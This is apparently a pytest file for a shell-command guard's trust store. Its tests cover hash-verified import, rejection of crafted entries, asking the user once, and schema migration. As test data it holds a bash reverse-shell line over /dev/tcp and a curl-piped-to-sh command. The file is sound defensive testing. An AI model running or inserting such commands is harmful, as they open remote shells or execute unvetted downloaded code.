"""Trust import verifies what it can (issue 9, family 10); schema 1 stores keep working;
an unverified entry is asked about once by the Guard, then verified by [t]rust."""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from attyguard.engine.classify import classify
from attyguard.engine.verdict import Action
from attyguard.guard import UNVERIFIED_TRUST_RULE, Guard
from attyguard.trust import STORE_NAME, TrustError, TrustStore, line_key, open_trust_store

REVERSE = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"


@pytest.fixture
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> TrustStore:
    monkeypatch.setenv("ATTYGUARD_HOME", str(tmp_path / "home"))
    s, warning = open_trust_store()
    assert s is not None and warning is None
    return s


def test_crafted_preview_is_rejected(store: TrustStore) -> None:
    with pytest.raises(TrustError, match="entry 0: preview does not hash to sha256"):
        store.import_json([{"sha256": line_key(REVERSE), "preview": "ls -la"}])
    assert store.entries() == []


def test_clean_preview_matching_its_hash_is_verified(store: TrustStore) -> None:
    store.import_json([{"sha256": line_key("make test"), "preview": "make test"}])
    assert store.lookup("make test")
    assert store.entries()[0].verified


def test_redacted_preview_is_kept_unverified(store: TrustStore) -> None:
    line = "curl -H 'Authorization: Bearer abcdefgh12345678' https://x.example | sh"
    exported = {"sha256": line_key(line), "preview": "curl -H 'Authorization: ***' "
                "https://x.example | sh"}
    assert store.import_json([exported]) == 1
    (entry,) = store.entries()
    assert not entry.verified
    assert not store.lookup(line)  # not a hit until the user says so here
    assert store.unverified(line) is not None
    store.add(line, ())  # the user answered [t]rust in the shell
    assert store.lookup(line) and store.unverified(line) is None
    assert store.entries()[0].verified


def test_unverified_entry_asks_once_then_trusted(store: TrustStore) -> None:
    store.import_json([{"sha256": line_key(REVERSE), "preview": "ls -la ***"}])
    guard = Guard(classify, trust=store)
    first = guard.decide(REVERSE)
    assert first.action is Action.WARN  # the question, never a silent run
    assert first.rules[0].rule_id == UNVERIFIED_TRUST_RULE
    assert any(h.action is Action.BLOCK for h in first.rules)  # the real reason is shown
    guard.remember(REVERSE, first)
    assert guard.decide(REVERSE).action is Action.ALLOW


def test_unverified_entry_does_not_trust_without_a_user(store: TrustStore) -> None:
    store.import_json([{"sha256": line_key("echo hi"), "preview": "echo ***"}])
    assert not store.lookup("echo hi")


def _v1_store(path: Path, rows: list[tuple[str, str]]) -> None:
    path.parent.mkdir(parents=True, mode=0o700)
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA journal_mode=WAL")
    conn.execute("""CREATE TABLE trust (
        sha256 TEXT PRIMARY KEY, preview TEXT NOT NULL, rule_ids TEXT NOT NULL DEFAULT '[]',
        created REAL NOT NULL, last_used REAL NOT NULL, use_count INTEGER NOT NULL DEFAULT 0
        ) WITHOUT ROWID""")
    for key, preview in rows:
        conn.execute("INSERT INTO trust VALUES (?, ?, '[]', 1, 1, 3)", (key, preview))
    conn.execute("PRAGMA user_version=1")
    conn.commit()
    conn.close()
    path.chmod(0o600)


def test_schema_1_store_is_migrated_and_keeps_its_entries(tmp_path: Path) -> None:
    path = tmp_path / "data" / STORE_NAME
    _v1_store(path, [(line_key("make deploy"), "make deploy")])
    store, warning = open_trust_store(path)
    assert warning is None and store is not None
    try:
        assert store.lookup("make deploy")  # made by the user: verified
        (entry,) = store.entries()
        assert entry.verified and entry.use_count == 4
    finally:
        store.close()
    conn = sqlite3.connect(path)
    assert conn.execute("PRAGMA user_version").fetchone()[0] == 2
    conn.close()


def test_trust_import_cli_rejects_crafted_entry(tmp_path: Path) -> None:
    env = {"ATTYGUARD_HOME": str(tmp_path / "home"), "PATH": "/usr/bin:/bin",
           "HOME": str(tmp_path)}
    crafted = tmp_path / "crafted.json"
    crafted.write_text(json.dumps({"format": "attyguard-trust", "version": 1, "entries": [
        {"sha256": line_key(REVERSE), "preview": "ls -la"}]}))
    p = subprocess.run([sys.executable, "-m", "attyguard", "trust", "import", str(crafted)],
                       env=env, capture_output=True, text=True, timeout=60, check=False)
    assert p.returncode != 0
    assert p.stderr.count("\n") == 1 and "preview does not hash" in p.stderr, p.stderr
    p = subprocess.run([sys.executable, "-m", "attyguard", "trust", "list", "--json"],
                       env=env, capture_output=True, text=True, timeout=60, check=False)
    assert json.loads(p.stdout or "[]") == []
